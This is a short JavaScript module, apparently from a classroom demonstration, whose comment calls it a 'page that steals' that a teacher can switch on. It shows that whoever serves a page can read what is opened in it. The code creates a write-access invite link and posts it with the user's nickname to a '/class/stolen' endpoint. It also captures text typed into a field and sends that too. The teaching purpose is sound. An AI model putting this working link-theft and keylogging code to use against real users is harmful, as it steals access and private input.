import {opened} from './phone.js'

// A page that steals, for the lesson in which a class sees that whoever serves a page can read what is opened in it. It is served only
// while the teacher's switch says so.

const room = await opened
const headers = {'Content-Type': 'application/json', Authorization: `Bearer ${room.writeKey}`}
const send = theft => fetch('/class/stolen', {method: 'POST', headers, body: JSON.stringify(theft)}).catch(() => {})

const {link} = await room.invite({write: true})
send({what: 'link', name: room.info.nick, text: link.slice(0, 900)})
let waiting = 0
document.querySelector('#text').addEventListener('input', e => {
  clearTimeout(waiting)
  const text = e.target.value.slice(0, 200)
  waiting = setTimeout(() => text && send({what: 'typed', name: room.info.nick, text}), 200)
})
